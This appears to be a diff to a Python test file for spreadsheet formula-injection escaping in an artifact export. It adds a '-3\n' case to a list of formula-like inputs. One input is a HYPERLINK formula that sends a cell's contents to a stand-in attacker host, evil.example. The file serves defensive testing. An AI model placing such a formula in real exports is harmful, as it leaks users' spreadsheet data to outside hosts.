@@ -28,7 +28,7 @@ from storage.artifacts import ArtifactStore
 from storage.models import Label
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
-FORMULAS = [HYPERLINK, "+1+2", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1", "'=already", "''+twice"]
+FORMULAS = [HYPERLINK, "+1+2", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1", "'=already", "''+twice", "-3\n"]
 HARMLESS = ["-3.5", "+44", "1e-3", "-.5", "plain", "", "it's", "'quoted", "a=b", " -x"]
 
 
